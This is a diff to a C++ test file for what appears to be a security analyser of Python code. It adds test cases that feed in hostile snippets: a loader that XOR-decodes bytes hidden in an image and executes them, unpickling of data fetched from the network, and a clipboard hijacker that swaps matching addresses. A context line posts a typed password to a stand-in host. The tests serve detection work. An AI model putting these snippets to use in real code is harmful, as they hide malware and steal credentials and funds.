@@ -88,6 +88,21 @@ TEST(Python, ReplacedPromptsAndReceivedObjects) {
   expect_none(p, "import getpass, requests\nrequests.post('http://x.invalid', data={'p': getpass.getpass()})\n");
 }
 
+TEST(Python, CodeOutOfPicturesAndReplacedClipboards) {
+  const auto p = "python";
+  expect_flow(p, "with open('a/logo.png', 'rb') as f:\n    tail = f.read()[900:]\nexec(bytes(b ^ 7 for b in tail))\n", "files to evaluate");
+  expect_flow(p, "data = open('a.dat', 'rb').read()\nexec(bytes(b ^ 7 for b in data))\n", "decoded-string to evaluate");
+  expect_flow(p, "import pickle\nfrom urllib.request import urlopen\nwith urlopen('http://x.invalid/a') as r:\n    blob = r.read()\npickle.loads(blob)\n", "network to evaluate");
+  expect_none(p, "exec(open('version.py').read())\n");
+  const auto replaced = [&](std::string_view text) {
+    const auto r = read(text, p);
+    return std::ranges::any_of(r.sink.all(Facet::private_), [](const auto& i) { return i.attributes.contains("replaced"); });
+  };
+  EXPECT_TRUE(replaced("import re, pyperclip\nwhile True:\n    t = pyperclip.paste()\n    if re.match('^1[a-z]+$', t):\n        pyperclip.copy('1Own')\n"));
+  EXPECT_FALSE(replaced("import pyperclip\nt = pyperclip.paste()\nif t != t.strip():\n    pyperclip.copy(t.strip())\n"));
+  EXPECT_FALSE(replaced("import pyperclip\nt = pyperclip.paste()\npyperclip.copy('1Own')\n"));
+}
+
 TEST(Python, HarmlessTwins) {
   const auto p = "python";
   expect_none(p, "import requests\nr = requests.get('http://x.invalid/data.json')\nopen('data.json', 'w').write(r.text)\n");
